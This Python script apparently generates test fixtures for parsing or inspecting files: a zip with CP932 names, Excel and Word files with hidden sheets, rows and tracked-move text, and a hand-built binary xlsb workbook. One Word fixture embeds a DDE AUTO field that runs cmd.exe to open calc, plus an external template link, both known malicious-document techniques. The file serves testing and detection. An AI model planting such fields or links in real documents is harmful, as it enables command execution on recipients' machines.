"""Writes files that no program at hand writes: a zip with names in CP932, and Office files with what only Excel makes."""
import io
import struct
import sys
import zipfile

out = sys.argv[1]
DATE = (2026, 1, 2, 3, 4, 6)


class CP932(zipfile.ZipInfo):
    def _encodeFilenameFlags(self):
        return self.filename.encode("cp932"), self.flag_bits & ~0x800


def write(name, members, method=zipfile.ZIP_DEFLATED, kind=zipfile.ZipInfo):
    with zipfile.ZipFile(out + "/" + name, "w", method) as z:
        for member, data in members.items():
            info = kind(member, DATE)
            info.compress_type = method
            z.writestr(info, data)


write("cp932.zip", {"資料/名簿.csv": "氏名,電話\r\n見本 太郎,090-0000-0000\r\n".encode("cp932"), "表示.txt": "表示\r\n".encode("cp932")}, kind=CP932)
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
excel = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{REL}"><sheets><sheet name="表" sheetId="1" r:id="rId1"/>'
    '<sheet name="奥" sheetId="2" state="veryHidden" r:id="rId2"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/>'
    f'<Relationship Id="rId2" Type="{REL}/worksheet" Target="/xl/worksheets/sheet2.xml"/></Relationships>',
    "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"><si><t>氏名</t><rPh sb="0" eb="2"><t>シメイ</t></rPh></si>'
    '<si><r><t>見本</t></r><r><t xml:space="preserve"> 花子</t></r></si><si><t>very secret</t></si></sst>',
    "xl/styles.xml": f'<styleSheet xmlns="{MAIN}"><numFmts><numFmt numFmtId="164" formatCode=";;;"/><numFmt numFmtId="165" formatCode="[$-411]ggge&quot;年&quot;m&quot;月&quot;d&quot;日&quot;"/></numFmts>'
    '<fonts><font/></fonts><fills><fill><patternFill patternType="none"/></fill></fills>'
    '<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="164"/><xf numFmtId="165"/></cellXfs></styleSheet>',
    "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    '<row r="3"><c r="A3" t="s"><v>1</v></c><c r="C3" s="1"><v>31840</v></c><c r="D3" t="inlineStr"><is><t>inline &lt;words&gt;</t></is></c>'
    '<c r="E3" s="2"><v>4711</v></c><c r="F3" s="3"><v>31841</v></c></row></sheetData></worksheet>',
    "xl/worksheets/sheet2.xml": f'<worksheet xmlns="{MAIN}"><sheetData><row><c t="s"><v>2</v></c></row></sheetData></worksheet>',
    "xl/pivotCache/pivotCacheDefinition1.xml": f'<pivotCacheDefinition xmlns="{MAIN}"><cacheFields><cacheField name="氏名"><sharedItems><s v="pivot secret"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>',
    "xl/pivotCache/pivotCacheRecords1.xml": f'<pivotCacheRecords xmlns="{MAIN}"><r><x v="0"/></r></pivotCacheRecords>',
}
write("excel.xlsx", excel)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
word = {
    "[Content_Types].xml": excel["[Content_Types].xml"],
    "word/document.xml": f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>visible</w:t></w:r><w:moveFrom><w:r><w:t>moved secret</w:t></w:r></w:moveFrom>'
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>',
    "word/_rels/settings.xml.rels": f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="https://templates.example.net/a.dotm" TargetMode="External"/></Relationships>',
}
write("remote.docx", word)
write("local.docx", dict(word, **{
    "word/document.xml": f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>visible</w:t></w:r></w:p></w:body></w:document>',
    "word/_rels/settings.xml.rels": word["word/_rels/settings.xml.rels"].replace("https://templates.example.net/a.dotm", "file:///C:\\Users\\a\\Templates\\b.dotx"),
}))


# A binary workbook (MS-XLSB), which only Excel writes. LibreOffice reads this one: soffice --convert-to csv book.xlsb
def rec(kind, body=b""):
    head = bytes([kind]) if kind < 128 else bytes([kind & 127 | 128, kind >> 7])
    n, size = len(body), b""
    while True:
        size += bytes([n & 127 | (128 if n > 127 else 0)])
        n >>= 7
        if not n:
            return head + size + body


def wide(s):
    raw = s.encode("utf-16-le")
    return struct.pack("<I", len(raw) // 2) + raw


def cell(column, style=0):
    return struct.pack("<II", column, style)


def row(n, cells, hidden=False):
    return rec(0, struct.pack("<IIHBBBI", n, 0, 300, 0, 0x10 if hidden else 0, 0, 0)) + cells


def sheet(body, columns=b""):
    return rec(129) + (rec(390) + columns + rec(391) if columns else b"") + rec(145) + body + rec(146) + rec(130)


shared = ["氏名", "生年月日", "電話", "見本 太郎", "090-0000-0000"]
strings = rec(159, struct.pack("<II", len(shared), len(shared))) + b"".join(rec(19, b"\0" + wide(s)) for s in shared) + rec(160)
styles = (rec(278) + rec(615, struct.pack("<I", 1)) + rec(44, struct.pack("<H", 164) + wide(";;;")) + rec(616)
          + rec(617, struct.pack("<I", 3)) + b"".join(rec(47, struct.pack("<HHHHHHBBH", 0, f, 0, 0, 0, 0, 0, 0, 0)) for f in (0, 14, 164)) + rec(618) + rec(279))
first = sheet(row(0, b"".join(rec(7, cell(i) + struct.pack("<I", i)) for i in range(3)))
              + row(1, rec(7, cell(0) + struct.pack("<I", 3)) + rec(5, cell(1, 1) + struct.pack("<d", 31840)) + rec(7, cell(2) + struct.pack("<I", 4)))
              + row(2, rec(6, cell(0) + wide("row secret")), hidden=True)
              + row(3, rec(2, cell(0, 2) + struct.pack("<I", 4711 << 2 | 2)) + rec(6, cell(3) + wide("column secret"))),
              rec(60, struct.pack("<IIIIH", 3, 3, 2560, 0, 1)))
second = sheet(row(0, rec(6, cell(0) + wide("very secret"))))
book = (rec(131) + rec(153, struct.pack("<III", 0, 0, 0)) + rec(143) + rec(156, struct.pack("<II", 0, 1) + wide("rId1") + wide("表")) + rec(156, struct.pack("<II", 2, 2) + wide("rId2") + wide("奥"))
        + rec(144) + rec(132))
TYPE = "application/vnd.ms-excel."
write("book.xlsb", {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    f'<Default Extension="bin" ContentType="{TYPE}sheet.binary.macroEnabled.main"/><Override PartName="/xl/worksheets/sheet1.bin" ContentType="{TYPE}worksheet"/><Override PartName="/xl/worksheets/sheet2.bin" ContentType="{TYPE}worksheet"/>'
    f'<Override PartName="/xl/sharedStrings.bin" ContentType="{TYPE}sharedStrings"/><Override PartName="/xl/styles.bin" ContentType="{TYPE}styles"/></Types>',
    "_rels/.rels": f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.bin"/></Relationships>',
    "xl/workbook.bin": book,
    "xl/_rels/workbook.bin.rels": f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.bin"/><Relationship Id="rId2" Type="{REL}/worksheet" Target="worksheets/sheet2.bin"/>'
    f'<Relationship Id="rId3" Type="{REL}/sharedStrings" Target="sharedStrings.bin"/><Relationship Id="rId4" Type="{REL}/styles" Target="styles.bin"/></Relationships>',
    "xl/sharedStrings.bin": strings, "xl/styles.bin": styles, "xl/worksheets/sheet1.bin": first, "xl/worksheets/sheet2.bin": second,
})
